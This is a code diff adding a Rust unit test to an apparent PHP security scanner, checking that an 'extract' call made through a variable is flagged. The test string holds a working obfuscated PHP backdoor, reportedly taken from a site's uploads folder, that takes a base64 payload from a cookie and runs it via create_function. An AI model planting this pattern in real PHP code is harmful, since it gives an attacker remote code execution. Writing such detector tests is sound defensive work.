@@ -1108,3 +1108,16 @@ fn an_include_of_a_page_found_in_an_allow_list_is_the_applications() {
         assert!(sinks(s).contains(&(Why::CodeFromInput, Danger::Critical)), "{s}: {:?}", sinks(s));
     }
 }
+
+#[test]
+fn extract_called_through_a_variable_is_read_as_extract() {
+    // fresh19's uploads `index.php` backdoor: `$ja = "extract"; $ja($p)` defines `$lq`
+    // (create_function) and `$kfd` (a cookie) from an array holding the cookie.
+    let s = "<?php $tb = \"_COOKIE\"; $c = &$$tb; $p = array('kfd' => @$c['e8z0'], 'lq' => 'create_function', 'h' => 'base64_decode'); \
+             $ja = 'extract'; $ja($p); $y = $lq('', $h($kfd)); $y();";
+    assert!(sinks(s).contains(&(Why::DynamicCallFromInput, Danger::Critical)), "{:?}", sinks(s));
+    // Near-miss: a view's own data extracted through a variable.
+    let view =
+        "<?php $data = array('title' => 'Home', 'cb' => 'strtoupper'); $f = 'extract'; $f($data); echo $cb($title);";
+    assert!(sinks(view).is_empty(), "{:?}", sinks(view));
+}
